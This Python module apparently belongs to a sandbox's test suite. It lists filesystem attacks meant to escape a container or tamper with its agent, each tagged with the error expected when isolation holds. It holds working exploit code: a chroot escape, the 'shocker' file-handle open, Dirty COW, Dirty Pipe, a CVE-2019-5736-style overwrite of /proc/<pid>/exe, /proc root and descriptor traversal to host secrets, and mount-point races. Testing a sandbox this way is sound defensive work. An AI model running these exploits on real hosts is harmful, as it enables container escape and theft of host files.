"""Attacks on files: those of the host by every way to name one, and the server's programs and mounts in the sandbox.

``ATTACK_SECRET`` in the environment names a file of the host that all its users may read.
"""

from __future__ import annotations

import ctypes
import glob
import mmap
import os
import struct
import subprocess
import time
from collections.abc import Iterator
from functools import partial
from pathlib import Path

from .base import Family, call, did

__all__ = ["FAMILY"]

FAMILY = Family("mount namespace", "the gofer's root is the sandbox's")
_SECRET = os.environ.get("ATTACK_SECRET", "/nowhere")
_UP = "/".join([".."] * 40)


def _processes() -> list[str]:
    return [name for name in os.listdir("/proc") if name.isdigit()]


def _read_any(paths: Iterator[str]) -> str | None:
    """The first of these files that can be read."""
    for path in paths:
        try:
            return f"{path}: {Path(path).read_text()}"
        except OSError:
            continue
    return None


def _read_by(place: str) -> str | None:
    return _read_any(f"/proc/{pid}/{place}{_SECRET}" for pid in _processes())


_HELD = {"namespace": "pid 1 is not dumpable; mount namespace"}
FAMILY.add("read a file of the host by its path", lambda: Path(_SECRET).read_text(), "ENOENT")
FAMILY.add("read a file of the host above the root", lambda: Path(f"/{_UP}{_SECRET}").read_text(), "ENOENT")
for _name, _place in {"root": "root", "working directory": "cwd/" + _UP, "mount namespace": "ns/mnt"}.items():
    FAMILY.add(
        f"read a file of the host by the {_name} of a process",
        partial(_read_by, _place),
        **_HELD,
    )


def _leaked() -> Iterator[str]:
    for pid in _processes():
        try:
            numbers = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        yield from (f"/proc/{pid}/fd/{number}/{_UP}{_SECRET}" for number in numbers)


FAMILY.add("read a file of the host by a descriptor that a process was left", lambda: _read_any(_leaked()), **_HELD)


@FAMILY.attack("read a file of the host by a link to it", "ENOENT")
def _() -> str:
    link = Path(f"/tmp/link-{os.getpid()}")
    link.symlink_to(_SECRET)
    return link.read_text()


FAMILY.add("take a file of the host by a hard link", partial(did, os.link, _SECRET, "/tmp/hard"), "ENOENT")


@FAMILY.attack("leave its root by changing it twice")
def _() -> str | None:
    Path("/tmp/jail").mkdir(exist_ok=True)
    outside = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/jail")
    os.fchdir(outside)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    return Path(_SECRET).read_text() if Path(_SECRET).exists() else None


@FAMILY.attack("open a file of the host by its number (shocker)", "ENOTSUP", "ESTALE", "EBADF", "EINVAL", namespace="seccomp")
def _() -> str | None:
    root = os.open("/", os.O_RDONLY)
    for inode in (2, 128, 256):
        fd = call(304, root, struct.pack("IiQ", 8, 1, inode), os.O_RDONLY)
        if Path(f"/proc/self/fd/{fd}{_SECRET}").exists():
            return "opened"
    return None


# The server's programs, which every sandbox has read-only.

_AGENT = "/.cloister/agent/site/cloister/agent/main.py"
_SEALED = {"namespace": "read-only mounts, of other ids", "gvisor": "read-only mounts, in gVisor and below the gofer"}


_PYTHON = next(iter(glob.glob("/.cloister/rt/bin/python3.[0-9]*")), "/.cloister/rt/bin/python3")


def _write(path: str) -> int:
    with Path(path).open("r+b") as file:
        return file.write(b"x")


for _name, _path in (("the agent", _AGENT), ("the agent's Python", _PYTHON)):
    FAMILY.add(f"write to {_name}", partial(_write, _path), "ETXTBSY", **_SEALED)
    FAMILY.add(f"truncate {_name}", partial(did, os.truncate, _path, 0), "ETXTBSY", **_SEALED)
    FAMILY.add(f"remove {_name}", partial(did, os.unlink, _path), "EBUSY", **_SEALED)
    FAMILY.add(f"rename {_name}", partial(did, os.rename, _path, f"{_path}x"), "EBUSY", **_SEALED)
    FAMILY.add(f"replace {_name}", partial(did, os.rename, "/etc/hostname", _path), "EXDEV", "EBUSY", **_SEALED)
    FAMILY.add(f"change the mode of {_name}", partial(did, os.chmod, _path, 0o6777), **_SEALED)
    FAMILY.add(f"take {_name} over", partial(did, os.chown, _path, 1000, 1000), "EOVERFLOW", **_SEALED)
    FAMILY.add(f"change the times of {_name}", partial(did, os.utime, _path, (1, 1)), "EOVERFLOW", **_SEALED)
    FAMILY.add(f"set an attribute of {_name}", partial(did, os.setxattr, _path, "user.attack", b"x"), "ENOTSUP", **_SEALED)
    FAMILY.add(f"link {_name} elsewhere", partial(did, os.link, _path, "/tmp/linked"), "EXDEV", **_SEALED)


def _map_to_write() -> object:
    with Path(_AGENT).open("rb") as file:
        return mmap.mmap(file.fileno(), 16, flags=mmap.MAP_SHARED, prot=mmap.PROT_READ | mmap.PROT_WRITE)


FAMILY.add("write to the agent by a shared mapping", _map_to_write, **_SEALED)


@FAMILY.attack("write to the agent by /proc/self/mem (Dirty COW)", "EIO", "EFAULT", **_SEALED)
def _() -> str | None:
    fd = os.open(_AGENT, os.O_RDONLY)
    mapped = mmap.mmap(fd, 16, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ)
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    address = libc.mmap(None, ctypes.c_size_t(4096), 1, 2, fd, ctypes.c_long(0))
    for _ in range(50):
        with open("/proc/self/mem", "r+b", buffering=0) as memory:
            memory.seek(address)
            memory.write(b"attack")
        libc.madvise(ctypes.c_void_p(address), ctypes.c_size_t(4096), 4)
    mapped.close()
    return "written" if Path(_AGENT).read_bytes()[:6] == b"attack" else None


@FAMILY.attack(
    "write to the agent by a spliced pipe (Dirty Pipe)",
    "EINVAL",
    namespace="the host's kernel has no such bug",
    gvisor="gVisor copies pages",
)
def _() -> str | None:
    before = Path(_AGENT).read_bytes()
    reads, writes = os.pipe()
    size = 65536
    os.write(writes, b"x" * size)
    os.read(reads, size)
    with Path(_AGENT).open("rb") as file:
        os.splice(file.fileno(), writes, 1, offset_src=0)
    os.write(writes, b"attack")
    return None if Path(_AGENT).read_bytes() == before else "written"


@FAMILY.attack("overwrite the program of a process by /proc/<pid>/exe", "ETXTBSY", **_SEALED)
def _() -> str:
    child = subprocess.Popen([_PYTHON, "-c", "import time; time.sleep(5)"], stdin=subprocess.DEVNULL)
    try:
        time.sleep(0.1)
        program = os.open(f"/proc/{child.pid}/exe", os.O_PATH)
    finally:
        child.kill()
        child.wait()
    # the program does not run any more, as in CVE-2019-5736
    return f"opened {os.open(f'/proc/self/fd/{program}', os.O_WRONLY)}"


def _write_new(path: str) -> int:
    return os.write(os.open(path, os.O_WRONLY | os.O_CREAT, 0o600), b"attack")


for _name in ("exe", "mem", "root/.cloister/agent/x", "environ", "attr/current", "setgroups", "uid_map"):
    FAMILY.add(
        f"write to /proc/1/{_name}",
        partial(_write_new, f"/proc/1/{_name}"),
        *("ETXTBSY", "ENOENT", "EIO", "EINVAL", "EISDIR", "EEXIST", "EFAULT"),
        namespace="pid 1 is not dumpable",
        gvisor="gVisor's /proc; read-only mounts",
    )

for _name in ("/.cloister", "/proc", "/dev", "/sys"):
    FAMILY.add(
        f"move {_name} away", partial(did, os.rename, _name, f"{_name}-away"), "EBUSY", "EINVAL", "EXDEV",
        held="mount points are busy",
    )  # fmt: skip
    FAMILY.add(
        f"remove {_name}", partial(did, os.rmdir, _name), "EBUSY", "ENOTEMPTY",
        held="mount points are busy",
    )  # fmt: skip


@FAMILY.attack("put a link in the place of a mount point by a race", "EBUSY", "EINVAL", held="mount points are busy")
def _() -> str:
    link = f"/tmp/race-{os.getpid()}"
    os.symlink("/tmp", link)
    call(316, -100, link.encode(), -100, b"/proc", 2)  # renameat2, RENAME_EXCHANGE
    return "exchanged"


def _set_overlay(name: str) -> str | None:
    """Done only if it has its effect: another directory's files, or none of the template's."""
    directory = "/usr/share/doc" if Path("/usr/share/doc").is_dir() else "/usr/lib"
    before = sorted(os.listdir(directory))
    os.setxattr(directory, name, b"y" if name.endswith("opaque") else b"/etc")
    if name == "trusted.attack":
        return "set"
    return None if sorted(os.listdir(directory)) == before else "hidden"


for _name in ("user.overlay.opaque", "user.overlay.redirect", "trusted.overlay.opaque", "trusted.attack"):
    FAMILY.add(
        f"set the attribute {_name}",
        partial(_set_overlay, _name),
        "ENOTSUP",
        namespace="overlayfs escapes or refuses it; no CAP_SYS_ADMIN",
        gvisor="overlayfs below the gofer; no CAP_SYS_ADMIN",
    )


@FAMILY.attack(
    "give a file to an id of another sandbox",
    "EINVAL",
    "EOVERFLOW",
    namespace="ids of its user namespace",
    gvisor="ids of the gofer's user namespace",
)
def _() -> str:
    path = Path(f"/tmp/given-{os.getpid()}")
    path.write_text("x")
    os.chown(path, 0x1001_0000, 0x1001_0000)
    return f"given to {path.stat().st_uid}"
